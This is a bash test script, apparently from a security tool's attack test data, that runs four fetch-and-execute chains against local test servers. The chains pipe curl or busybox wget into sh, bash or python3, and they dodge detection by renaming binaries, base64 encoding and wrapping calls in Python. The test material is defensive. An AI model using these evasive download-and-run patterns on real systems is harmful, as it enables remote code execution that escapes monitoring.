#!/usr/bin/env bash
# The same with another name for every part: curl and the calling shell are renamed copies, the receiving shell has its full path
# and arguments, something stands between; wget; a program for Python; flags run together.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts

echo "echo ran >>'$work/ran'" >"$work/install.sh"
base64 -w 0 "$work/install.sh" >"$work/encoded"
echo "print('ran', file=open('$work/ran', 'a'))" >"$work/install.py"
python3 "$peer" web "$work/port-sh" "$work/install.sh" 2 &
python3 "$peer" web "$work/port-base64" "$work/encoded" 1 &
python3 "$peer" web "$work/port-py" "$work/install.py" 1 &
wait_for "$work/port-sh"
wait_for "$work/port-base64"
wait_for "$work/port-py"
cp "$(readlink -f /usr/bin/curl)" "$work/fetcher"
cp "$(readlink -f /bin/sh)" "$work/worker"

"$work/worker" -c "'$work/fetcher' -s 'http://127.0.0.1:$(<"$work/port-base64")/a?b=1&c=2' | base64 -d | /bin/bash -s -- --yes"
bash -ec "(busybox wget -q -O - http://127.0.0.1:$(<"$work/port-sh")/a || false)|env X=1 /bin/sh"
python3 -c 'import os, sys; os.system(sys.argv[1])' "busybox wget -q -O - http://127.0.0.1:$(<"$work/port-sh")/a | busybox sh"
busybox sh -c "curl -s http://127.0.0.1:$(<"$work/port-py")/a | python3 -"
[[ $(grep -c ran "$work/ran") = 4 ]] || fail "not every program ran"
wait
